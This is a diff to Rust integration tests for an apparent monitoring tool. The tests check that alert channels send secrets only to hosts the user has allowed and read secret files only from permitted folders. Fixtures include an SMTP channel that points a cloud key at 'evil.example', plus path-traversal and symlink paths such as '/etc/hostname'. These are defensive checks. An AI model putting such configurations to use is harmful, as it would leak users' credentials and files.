@@ -25,7 +25,7 @@ fn a_service_that_is_down_is_told_by_each_channel_as_it_wants_it() {
     let certificate = tempfile::NamedTempFile::new().expect("a file");
     let mail = MailReceiver::start(Tls::FirstByte, certificate.path());
     let mut project = project(&format!(
-        "slack env=\"HOOK\"\npagerduty file=\"key\" url=\"{}\"\nwebhook \"{}\" {{ authorization env=\"TOKEN\"; }}\n\
+        "slack env=\"HOOK\"\npagerduty file=\"key\" url=\"{}\"\nwebhook \"{}\" {{ authorization env=\"LARDER_TOKEN_HOOK\"; }}\n\
          email \"ops@acme.example\" \"b@acme.example\" from=\"larder@acme.example\" {{\n\
          smtp \"smtps://localhost:{}\"; user \"larder\"; password env=\"MAIL\"\n}}",
         pagerduty.url(),
@@ -33,7 +33,8 @@ fn a_service_that_is_down_is_told_by_each_channel_as_it_wants_it() {
         mail.port()
     ));
     project.write("key", "R0UT3\n");
-    project.set("HOOK", &slack.url()).set("TOKEN", "Bearer t0k3n").set("MAIL", "s3cret");
+    project.set("HOOK", &slack.url()).set("LARDER_TOKEN_HOOK", "Bearer t0k3n").set("MAIL", "s3cret");
+    project.set("LARDER_ALLOW_TOKEN_ENV", &format!("MAIL@localhost:{}", mail.port()));
     project.set("SSL_CERT_FILE", &certificate.path().display().to_string());
     let monitor = project.start("production");
     let all = || {
@@ -81,10 +82,10 @@ fn a_dead_and_a_slow_channel_hold_up_no_other_and_the_dead_one_is_told() {
     let pagerduty = HttpReceiver::start(Manner::Slow(Duration::from_secs(8)));
     let webhook = HttpReceiver::start(Manner::Takes);
     let mut project = project(&format!(
-        "slack env=\"HOOK\"\npagerduty env=\"KEY\" url=\"{}\"\nwebhook env=\"OTHER\"",
+        "slack env=\"HOOK\"\npagerduty env=\"LARDER_TOKEN_KEY\" url=\"{}\"\nwebhook env=\"OTHER\"",
         pagerduty.url()
     ));
-    project.set("HOOK", &slack.url()).set("KEY", "k").set("OTHER", &webhook.url());
+    project.set("HOOK", &slack.url()).set("LARDER_TOKEN_KEY", "k").set("OTHER", &webhook.url());
     let monitor = project.start("development");
     monitor.wait_for("api", "unhealthy");
     let raised = std::time::Instant::now();
@@ -163,4 +164,69 @@ fn the_channels_are_tried_at_once_and_each_is_named() {
     let out = project.run(&["alerts", "test"]);
     let said = String::from_utf8_lossy(&out.stderr).into_owned();
     assert!(out.status.code() == Some(2) && said.contains("`HOOK`") && !said.contains("xyzzy"), "{said}");
+}
+
+#[test]
+fn a_variable_is_sent_only_where_this_user_agreed_to() {
+    let receiver = HttpReceiver::start(Manner::Takes);
+    let url = receiver.url();
+    let host = url.trim_start_matches("http://").split('/').next().unwrap_or_default().to_owned();
+    let mail = "email \"a@b\" from=\"c@d\" { smtp \"smtps://evil.example\"; user \"u\"; password env=\"CLOUD_KEY\"; }";
+    for (channel, pair) in [
+        (format!("webhook \"{url}\" {{ authorization env=\"CLOUD_KEY\"; }}"), format!("CLOUD_KEY@{host}")),
+        (format!("webhook env=\"HOOK\" {{ authorization env=\"CLOUD_KEY\"; }}"), format!("CLOUD_KEY@{host}")),
+        (format!("pagerduty env=\"CLOUD_KEY\" url=\"{url}\""), format!("CLOUD_KEY@{host}")),
+        (format!("pagerduty env=\"LARDER_ALERTS_PAGERDUTY\" url=\"{url}\""), format!("LARDER_ALERTS_PAGERDUTY@{host}")),
+        (mail.to_owned(), "CLOUD_KEY@evil.example".to_owned()),
+        (mail.replace("evil.example", "evil.example:2525"), "CLOUD_KEY@evil.example:2525".to_owned()),
+        ("pagerduty env=\"CLOUD_KEY\"".to_owned(), "CLOUD_KEY@events.pagerduty.com".to_owned()),
+    ] {
+        let mut project = Project::new(&format!("alerts {{ {channel}; }}"));
+        project.set("CLOUD_KEY", "s3cret").set("HOOK", &url);
+        if pair.starts_with("LARDER_ALERTS_PAGERDUTY") {
+            project.set("LARDER_ALERTS_PAGERDUTY", "s3cret");
+        }
+        for words in [&["alerts", "test"][..], &["--once"]] {
+            let refused = project.json(words, 1);
+            let error = &refused["error"];
+            assert_eq!(error["code"], "larder::monitor::secret_not_allowed", "{refused}");
+            let help = error["help"].as_str().unwrap_or_default();
+            assert!(help.contains(&format!("larder login --allow {pair}`,")), "{channel}: {help}");
+            assert!(help.contains("LARDER_ALLOW_TOKEN_ENV") && !refused.to_string().contains("s3cret"), "{refused}");
+        }
+        assert!(receiver.received().is_empty());
+        // What the user agreed to, in the environment or once for all, is sent.
+        if pair.ends_with(&host) {
+            project.set("LARDER_ALLOW_TOKEN_ENV", &pair);
+            project.json(&["alerts", "test"], 0);
+            project.set("LARDER_ALLOW_TOKEN_ENV", "").agree(&pair);
+            project.json(&["alerts", "test"], 0);
+            assert_eq!(receiver.take().len(), 2);
+        }
+    }
+}
+
+#[test]
+fn a_secret_s_file_lies_in_the_project_or_in_the_configuration() {
+    let receiver = HttpReceiver::start(Manner::Takes);
+    for (file, status) in
+        [("key", 0), ("~/.config/larder/key", 0), ("../key", 1), ("~/key", 1), ("/etc/hostname", 1), ("out", 1)]
+    {
+        for channel in [
+            format!("pagerduty file=\"{file}\" url=\"{}\"", receiver.url()),
+            format!("webhook file=\"{file}\""),
+            format!("slack file=\"{file}\""),
+        ] {
+            let project = Project::new(&format!("alerts {{ {channel}; }}"));
+            for place in ["key", "../key", "../home/key", "../home/.config/larder/key"] {
+                project.write(place, &format!("{}\n", receiver.url()));
+            }
+            std::os::unix::fs::symlink("../key", project.path("out")).expect("a link");
+            let tested = project.json(&["alerts", "test"], status);
+            assert_eq!(receiver.take().len(), usize::from(status == 0), "{channel}: {tested}");
+            if status == 1 {
+                assert_eq!(tested["error"]["code"], "larder::monitor::secret_not_allowed", "{tested}");
+            }
+        }
+    }
 }
